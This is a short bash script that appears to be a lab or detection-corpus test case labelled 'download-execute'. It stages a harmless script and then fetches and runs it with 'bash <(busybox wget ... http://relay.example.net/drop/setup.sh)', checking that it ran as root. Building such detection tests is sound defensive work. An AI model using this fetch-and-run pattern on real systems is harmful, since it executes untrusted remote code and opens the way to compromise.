#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=tune tool=busybox,bash far=out seconds=14 parts=dns,outside-web
# bash is given a script as a file that is a pipe, into which busybox fetches it: bash <(busybox wget).
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf 'id >%s/ran\nsleep 4\nid >>%s/ran\n' "$LAB" "$LAB" >"$LAB/outside/drop/setup.sh"; sleep 16; exit 0; fi
sleep 1; bash <(busybox wget -q -O - http://relay.example.net/drop/setup.sh); sleep 1
grep -c uid=0 "$LAB/ran" | grep -qx 2
